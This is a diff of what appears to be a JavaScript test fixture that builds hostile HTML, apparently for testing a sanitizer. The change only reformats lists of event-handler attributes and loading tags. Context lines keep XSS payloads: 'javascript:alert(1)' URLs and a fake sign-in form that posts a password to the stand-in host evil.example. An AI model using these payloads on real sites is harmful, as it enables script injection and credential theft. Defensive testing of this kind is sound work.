@@ -3,20 +3,10 @@
  * `HOSTILE_HTML` is built.
  */
 
-const EVENTS = [
-  ...[
-    'onclick',
-    'onerror',
-    'onload',
-    'onmouseover',
-    'onfocus',
-    'onblur',
-    'ontoggle',
-    'onpointerdown',
-    'onbegin',
-  ],
-  ...['onanimationstart', 'ontransitionend', 'onwheel', 'onbeforeprint', 'onauxclick', 'onscrollend'],
-]
+const EVENTS =
+  'onclick onerror onload onmouseover onfocus onblur ontoggle onpointerdown onbegin onanimationstart ontransitionend onwheel onbeforeprint onauxclick onscrollend'.split(
+    ' ',
+  )
 
 const SCRIPT_URLS = [
   'javascript:alert(1)',
@@ -37,18 +27,7 @@ const SCRIPT_URLS = [
   'https:\\\\evil.example',
 ]
 
-const LOADING_TAGS = [
-  'iframe',
-  'frame',
-  'embed',
-  'video',
-  'audio',
-  'source',
-  'track',
-  'input',
-  'portal',
-  'fencedframe',
-]
+const LOADING_TAGS = 'iframe frame embed video audio source track input portal fencedframe'.split(' ')
 
 const CONTROLS = [
   '<form action=https://evil.example><input name=password><button>Sign in</button></form>',
